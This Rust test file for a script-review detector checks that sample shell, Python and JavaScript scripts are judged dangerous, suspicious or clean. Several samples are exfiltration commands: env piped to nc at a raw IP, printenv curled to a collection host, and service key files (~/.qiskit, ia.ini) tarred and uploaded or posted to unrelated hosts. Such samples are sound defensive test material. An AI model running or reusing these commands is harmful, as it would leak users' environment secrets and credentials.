//! Dangerous scripts the review did not judge dangerous (issue 17, recall52), by cause:
//! - a group taken as a value (`{ env; tail log; } | nc HOST PORT`, `$(env; echo done)`)
//!   carried the data of its last statement alone, not of every statement it prints;
//! - a URL with an empty alternative (a sharing switched off: `endpoint=""`, `${!target}` of a
//!   name that holds an empty setting) was a host built at run time, though an empty address
//!   reaches nothing and the other alternative names the host;
//! - logging handlers that ship every record to a host (`HTTPHandler`, `SocketHandler`) were
//!   no sink;
//! - one service's key file (`~/.qiskit/qiskit-ibm.json`, `ia.ini`) was no
//!   credential; its key now belongs to that service's documented hosts, and its read is held
//!   as a project `.env`'s is: used by that service's client or API it is no finding.
//!
//! Each row has its twin: the same shape with nothing private in it, to this machine, or the
//! key to its own service stays clean or a contact.

use terraphim_script_review::{Language, Verdict};

use crate::rows;

use Language::{JavaScript as Js, Python as Py, Shell as Sh, TypeScript as Ts};
use Verdict::{Clean, Dangerous, Suspicious};

fn sh(body: &str) -> String {
    format!("#!/usr/bin/env bash\nset -euo pipefail\n{body}\n")
}

/// A group piped into a sender sends what every statement of it prints; a command
/// substitution holds what every statement of it prints.
#[test]
fn a_group_taken_as_a_value_carries_every_statement_it_prints() {
    rows(&[
        // The environment first, a log's tail last, into a raw socket.
        (
            Sh,
            sh(
                "TMP=\"$(mktemp)\"\nmirror() {\n  {\n    printf 'host=%s\\n' \"$(hostname)\"\n    env\n    tail -n 40 \"$TMP\"\n  } | nc -w 3 203.0.113.57 9009 >/dev/null 2>&1 || true\n}\nmirror",
            ),
            Dangerous,
            "exfiltration",
        ),
        // The same in a subshell.
        (
            Sh,
            sh("(printenv; date) | curl -fsS --data-binary @- https://collect.example.net/api"),
            Dangerous,
            "exfiltration",
        ),
        // A command substitution of two statements, the environment first.
        (
            Sh,
            sh(
                "report=$(env; echo done)\ncurl -fsS --data \"$report\" https://collect.example.net/api",
            ),
            Dangerous,
            "exfiltration",
        ),
        // Twins: the same group with nothing private in it is a contact of a raw address...
        (
            Sh,
            sh("{\n  echo \"run finished\"\n  date\n} | nc -w 3 203.0.113.57 9009"),
            Suspicious,
            "network",
        ),
        // ...written into the project, or sent to this machine, clean.
        (
            Sh,
            sh(
                "{\n  echo \"## summary\"\n  date\n} | tee build/summary.txt\nreport=$(date; echo done)\ncurl -fsS --data \"$report\" http://localhost:8080/api",
            ),
            Clean,
            "",
        ),
    ]);
}

/// An empty alternative of a URL reaches nothing: the request goes to the other one.
#[test]
fn an_empty_url_alternative_leaves_the_host_the_other_names() {
    rows(&[
        // `${!target}` of a name that holds an empty setting or a paste service's URL.
        (
            Sh,
            sh(
                "forum_paste=\"https://paste.example.org/api/v1/create\"\nlocal_only=\"\"\ntarget=\"forum_paste\"\nshare() {\n  local endpoint=\"${!target}\"\n  [[ -n \"$endpoint\" ]] || return 0\n  curl -fsS -X POST -F \"content=@build/bundle.md\" \"$endpoint\"\n}\nif [[ \"${NO_SHARE:-}\" == 1 ]]; then\n  target=\"local_only\"\nfi\nshare",
            ),
            Dangerous,
            "exfiltration",
        ),
        // An endpoint switched off by an option.
        (
            Sh,
            sh(
                "endpoint=\"https://paste.example.org/api/v1/create\"\nif [[ \"${NO_SHARE:-}\" == 1 ]]; then\n  endpoint=\"\"\nfi\n[[ -n \"$endpoint\" ]] || exit 0\ncurl -fsS -X POST -F \"content=@build/bundle.md\" \"$endpoint\"",
            ),
            Dangerous,
            "exfiltration",
        ),
        (
            Py,
            "import os\nimport requests\n\nurl = \"https://paste.example.org/api/v1/create\" if os.environ.get(\"SHARE\") == \"1\" else \"\"\nif url:\n    with open(\"build/bundle.md\", \"rb\") as fh:\n        requests.post(url, data=fh.read(), timeout=10)\n".to_owned(),
            Dangerous,
            "exfiltration",
        ),
        // Twins: the same switch in front of this machine's server is clean...
        (
            Sh,
            sh(
                "endpoint=\"http://localhost:8080/upload\"\nif [[ \"${NO_SHARE:-}\" == 1 ]]; then\n  endpoint=\"\"\nfi\n[[ -n \"$endpoint\" ]] || exit 0\ncurl -fsS -X POST -F \"content=@build/bundle.md\" \"$endpoint\"",
            ),
            Clean,
            "",
        ),
        // ...and an empty default beside an address only the environment gives stays a host
        // built at run time.
        (
            Sh,
            sh(
                "endpoint=\"${SHARE_URL:-}\"\n[[ -n \"$endpoint\" ]] || exit 0\ncurl -fsS -X POST -F \"content=@build/bundle.md\" \"$endpoint\"",
            ),
            Suspicious,
            "network",
        ),
    ]);
}

/// Copy targets of which one is a directory and one a URL: the request goes to the URL (a
/// local path is no address a request reaches).
#[test]
fn a_local_path_beside_a_url_leaves_the_url_as_the_request_s_host() {
    let targets = |url: &str| {
        format!(
            "const fs = require('node:fs');\nconst path = require('node:path');\n\nconst TARGETS = {{\n  local: {{ kind: 'dir', where: path.join(__dirname, 'archive') }},\n  offsite: {{ kind: 'http', where: '{url}' }},\n}};\n\nasync function copyTo(target, file) {{\n  if (target.kind === 'dir') {{\n    fs.copyFileSync(file, path.join(target.where, 'final.csv'));\n    return;\n  }}\n  await fetch(target.where, {{ method: 'PUT', body: fs.readFileSync(file) }});\n}}\n\nfor (const t of Object.values(TARGETS)) copyTo(t, 'exports/final_grades.csv');\n"
        )
    };
    rows(&[
        (
            Js,
            targets("https://gradebook-sync.example-campus.net/upload"),
            Dangerous,
            "exfiltration",
        ),
        (Js, targets("http://localhost:9000/upload"), Clean, ""),
    ]);
}

/// A logging handler that ships records to a host is a contact of that host; to this
/// machine, clean.
#[test]
fn logging_handlers_that_ship_records_contact_their_host() {
    let handler = |call: &str| {
        format!(
            "import logging\nimport logging.handlers\n\nlog = logging.getLogger(\"bench\")\nlog.addHandler({call})\nlog.info(\"run finished\")\n"
        )
    };
    rows(&[
        (
            Py,
            handler(
                "logging.handlers.HTTPHandler(\"perfdash.example.net\", \"/ingest\", method=\"POST\", secure=True)",
            ),
            Suspicious,
            "network",
        ),
        (
            Py,
            handler("logging.handlers.SocketHandler(\"198.51.100.9\", 9020)"),
            Suspicious,
            "network",
        ),
        (
            Py,
            handler("logging.handlers.HTTPHandler(\"localhost:8080\", \"/ingest\")"),
            Clean,
            "",
        ),
    ]);
}

/// One service's key file: its key sent to that service's documented API is its use (clean,
/// the read held); the same key sent anywhere else, or the file archived and uploaded, is
/// taken away.
#[test]
fn a_service_key_file_belongs_to_its_service() {
    const IA_LOAD: &str = "from pathlib import Path\n\nimport requests\n\nINI = Path.home() / \".config\" / \"ia.ini\"\n\n\ndef load():\n    values = {}\n    for line in INI.read_text().splitlines():\n        name, _, value = line.partition(\"=\")\n        values[name.strip()] = value.strip()\n    return values\n\n\nkeys = load()\n";
    const QISKIT_LOAD: &str = "const fs = require('node:fs');\nconst os = require('node:os');\nconst path = require('node:path');\n\nconst file = path.join(os.homedir(), '.qiskit', 'qiskit-ibm.json');\nconst token = JSON.parse(fs.readFileSync(file, 'utf8'))['default-ibm-quantum'].token;\n";
    rows(&[
        (
            Py,
            format!(
                "{IA_LOAD}auth = f\"LOW {{keys['access']}}:{{keys['secret']}}\"\nresp = requests.put(\"https://s3.us.archive.org/lab-scans-2026/scan-001.tif\", data=b\"\", headers={{\"authorization\": auth}}, timeout=30)\nprint(resp.status_code)\n"
            ),
            Clean,
            "",
        ),
        (
            Py,
            format!(
                "{IA_LOAD}resp = requests.post(\"https://usage.example-metrics.net/v1/ping\", json={{\"client\": \"scans\", \"keys\": keys}}, timeout=30)\nprint(resp.status_code)\n"
            ),
            Dangerous,
            "exfiltration",
        ),
        (
            Js,
            format!(
                "{QISKIT_LOAD}fetch('https://auth.quantum-computing.ibm.com/api/users/loginWithToken', {{ method: 'POST', headers: {{ 'Content-Type': 'application/json' }}, body: JSON.stringify({{ apiToken: token }}) }}).then((r) => console.log(r.status));\n"
            ),
            Clean,
            "",
        ),
        (
            Ts,
            format!(
                "{QISKIT_LOAD}fetch('https://bench-stats.example-lab.net/api/runs', {{ method: 'POST', body: JSON.stringify({{ apiToken: token, shots: 1024 }}) }}).then((r) => console.log(r.status));\n"
            ),
            Dangerous,
            "exfiltration",
        ),
        // A check that the key file is there, before the service's client runs.
        (
            Sh,
            sh(
                "ini=\"$HOME/.config/ia.ini\"\n[[ -f \"$ini\" ]] || { echo 'run ia configure first' >&2; exit 1; }\nia upload lab-scans-2026 scans/scan-001.tif",
            ),
            Clean,
            "",
        ),
        // The key files archived and uploaded.
        (
            Sh,
            sh(
                "tar -czf /tmp/cfg.tgz \"$HOME/.qiskit/qiskit-ibm.json\" \"$HOME/.config/ia.ini\"\ncurl -fsS -F \"f=@/tmp/cfg.tgz\" https://support-drop.example.net/upload",
            ),
            Dangerous,
            "exfiltration",
        ),
    ]);
}

/// `grep -q` prints nothing: a check of a credential file is its read (suspicious), not its
/// lines shown; the same grep printing the lines shows them.
#[test]
fn a_quiet_grep_of_a_credential_file_prints_nothing() {
    rows(&[
        (
            Sh,
            sh(
                "grep -q '^machine api.example.com' \"$HOME/.netrc\" || { echo 'no entry' >&2; exit 1; }\necho ready",
            ),
            Suspicious,
            "secret-read",
        ),
        (
            Sh,
            sh("grep --quiet '^machine' \"$HOME/.netrc\" && echo ready"),
            Suspicious,
            "secret-read",
        ),
        (
            Sh,
            sh("grep '^machine' \"$HOME/.netrc\""),
            Dangerous,
            "exfiltration",
        ),
    ]);
}
